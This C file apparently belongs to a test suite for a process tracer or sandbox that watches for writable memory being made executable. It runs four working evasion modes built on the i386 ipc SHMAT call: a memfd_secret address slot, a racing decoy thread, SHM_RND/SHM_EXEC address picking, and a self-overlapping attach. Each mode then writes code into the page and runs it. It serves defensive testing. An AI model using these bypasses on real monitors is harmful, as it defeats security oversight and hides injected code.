/*
 * Attack (gcc -m32): the i386 ipc(2) multiplexer's SHMAT (call 21) returns 0
 * and has the kernel store the attach address at `third`, a pointer into
 * memory the program controls. A tracer that takes the address from there
 * records the attach somewhere else; the page it really replaced (a read+
 * execute view of a file nobody wrote) still looks clean, so making the
 * segment's written view executable there looks like no change at all.
 *
 * Each try maps a page of the program's own file read+execute at X, attaches
 * a System V segment read+write over it (SHM_REMAP), writes code into it,
 * mprotects it read+execute and runs it.
 *
 *   attack_ipc_shmat secret        the address slot is memfd_secret memory,
 *                                  which the tracer cannot read
 *   attack_ipc_shmat race ROUNDS   a second thread keeps writing a decoy
 *                                  address into the slot, ROUNDS tries
 *   attack_ipc_shmat picked        the program picks an unaligned address in
 *                                  X with SHM_RND: first with SHM_EXEC (the
 *                                  segment comes executable), then without
 *   attack_ipc_shmat replaced      the secret slot again, the segment attached
 *                                  over an equal attach of itself (nothing in
 *                                  the maps tells the two apart), then a page
 *                                  of the program's file mapped read-only is
 *                                  made read+execute (no code is written)
 *
 * Labels: <mode>_shmat (rc: the address the segment is attached at, read
 * from the program's own view), <mode>_rx_mprotect, <mode>_call,
 * picked_exec_shmat, picked_exec_call, replaced_first_shmat,
 * replaced_clean_mprotect; race prints COUNT (tries whose code ran).
 */
#include "common.h"

#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/ipc.h>
#include <sys/shm.h>
#include <sys/syscall.h>

#define IPC_SHMAT_CALL 21
#define I386_NR_MEMFD_SECRET 447

static int exe_fd = -1;

static long ipc_shmat(int shmid, const void *addr, int flags, unsigned long *slot)
{
	return syscall(SYS_ipc, IPC_SHMAT_CALL, shmid, flags, slot, addr, 0);
}

/* A fresh read+execute view of the program's own first page (at `at`, or anywhere). */
static void *clean_view(void *at)
{
	return mmap(at, tw_page(), TW_RX, MAP_PRIVATE | (at ? MAP_FIXED : 0), exe_fd, 0);
}

/* Write code at x (the segment's view), make it read+execute, run it. Returns 1 when it ran. */
static int write_and_run(const char *mode, void *x, int report)
{
	char label[64];
	int rc;

	tw_put_code(x);
	rc = mprotect(x, tw_page(), TW_RX);
	if (report) {
		snprintf(label, sizeof(label), "%s_rx_mprotect", mode);
		tw_step(label, "mprotect", rc, errno);
	}
	if (rc != 0)
		return 0;
	snprintf(label, sizeof(label), "%s_call", mode);
	if (report)
		tw_show_map(label, x);
	tw_run(label, x);
	return 1;
}

static void report_attach(const char *label, long rc, void *at)
{
	if (rc < 0)
		tw_step(label, "ipc", -1, errno);
	else
		tw_emit("STEP %s ipc rc=0x%lx errno=0", label, (unsigned long)(uintptr_t)at);
}

static int secret(int shmid)
{
	size_t pg = tw_page();
	int fd = (int)syscall(I386_NR_MEMFD_SECRET, 0);
	unsigned long *slot;
	void *x;
	long rc;

	tw_step("secret_create", "memfd_secret", fd, errno);
	if (fd < 0)
		return tw_done();
	if (ftruncate(fd, (off_t)pg) != 0)
		return 1;
	slot = tw_mmap("secret_slot", NULL, pg, TW_RW, MAP_SHARED, fd, 0);
	x = clean_view(NULL);
	if (slot == MAP_FAILED || x == MAP_FAILED)
		return 1;
	rc = ipc_shmat(shmid, x, SHM_REMAP, slot);
	report_attach("secret_shmat", rc, (void *)(uintptr_t)*slot);
	if (rc == 0)
		write_and_run("secret", (void *)(uintptr_t)*slot, 1);
	return tw_done();
}

static int replaced(int shmid)
{
	size_t pg = tw_page();
	int fd = (int)syscall(I386_NR_MEMFD_SECRET, 0);
	unsigned long *slot;
	void *x, *clean;
	long rc;

	tw_step("secret_create", "memfd_secret", fd, errno);
	if (fd < 0)
		return tw_done();
	if (ftruncate(fd, (off_t)pg) != 0)
		return 1;
	slot = tw_mmap("secret_slot", NULL, pg, TW_RW, MAP_SHARED, fd, 0);
	clean = mmap(NULL, pg, PROT_READ, MAP_PRIVATE, exe_fd, 0);
	if (slot == MAP_FAILED || clean == MAP_FAILED)
		return 1;
	rc = ipc_shmat(shmid, NULL, 0, slot);
	x = (void *)(uintptr_t)*slot;
	report_attach("replaced_first_shmat", rc, x);
	if (rc != 0)
		return tw_done();
	rc = ipc_shmat(shmid, x, SHM_REMAP, slot);
	report_attach("replaced_shmat", rc, (void *)(uintptr_t)*slot);
	tw_mprotect("replaced_clean_mprotect", clean, pg, TW_RX);
	return tw_done();
}

static unsigned long *race_slot;
static unsigned long decoy;
static atomic_int race_stop;

static void *rewriter(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&race_stop, memory_order_relaxed))
		*(volatile unsigned long *)race_slot = decoy;
	return NULL;
}

static int race(int shmid, long rounds)
{
	pthread_t thread;
	long i, wins = 0;
	void *x = NULL;

	race_slot = tw_mmap("race_slot", NULL, tw_page(), TW_RW, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	decoy = (unsigned long)(uintptr_t)mmap(NULL, tw_page(), TW_RW, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (race_slot == MAP_FAILED || decoy == (unsigned long)(uintptr_t)MAP_FAILED)
		return 1;
	if (pthread_create(&thread, NULL, rewriter, NULL) != 0)
		return 1;
	for (i = 0; i < rounds && !wins; i++) {
		x = clean_view(x);
		if (x == MAP_FAILED)
			break;
		if (ipc_shmat(shmid, x, SHM_REMAP, race_slot) != 0)
			continue;
		/* The program asked for x: it needs no slot to know where the segment is. */
		wins += write_and_run("race", x, 0);
		shmdt(x);
	}
	atomic_store(&race_stop, 1);
	pthread_join(thread, NULL);
	tw_emit("COUNT %ld", wins);
	return tw_done();
}

static int picked(int shmid)
{
	unsigned long slot = 0;
	void *x = clean_view(NULL);
	long rc;

	if (x == MAP_FAILED)
		return 1;
	/* An unaligned address inside x: SHM_RND rounds it down to x. */
	rc = ipc_shmat(shmid, (char *)x + 123, SHM_RND | SHM_REMAP | SHM_EXEC, &slot);
	report_attach("picked_exec_shmat", rc, (void *)(uintptr_t)slot);
	if (rc == 0) {
		tw_put_code((void *)(uintptr_t)slot);
		tw_run("picked_exec_call", (void *)(uintptr_t)slot);
		shmdt((void *)(uintptr_t)slot);
		x = clean_view(x);
		if (x == MAP_FAILED)
			return 1;
	}
	slot = 0;
	rc = ipc_shmat(shmid, (char *)x + 123, SHM_RND | SHM_REMAP, &slot);
	report_attach("picked_shmat", rc, (void *)(uintptr_t)slot);
	if (rc == 0)
		write_and_run("picked", (void *)(uintptr_t)slot, 1);
	return tw_done();
}

int main(int argc, char **argv)
{
	const char *mode = argc > 1 ? argv[1] : "";
	int shmid, status;

	tw_init();
	exe_fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	shmid = shmget(IPC_PRIVATE, tw_page(), IPC_CREAT | 0600);
	if (exe_fd < 0 || shmid < 0)
		return 1;
	if (!strcmp(mode, "secret"))
		status = secret(shmid);
	else if (!strcmp(mode, "race"))
		status = race(shmid, tw_count_arg(argc, argv, 2, "race ROUNDS"));
	else if (!strcmp(mode, "picked"))
		status = picked(shmid);
	else if (!strcmp(mode, "replaced"))
		status = replaced(shmid);
	else {
		fprintf(stderr, "usage: %s secret | race ROUNDS | picked | replaced\n", argv[0]);
		status = 2;
	}
	shmctl(shmid, IPC_RMID, NULL);
	return status;
}
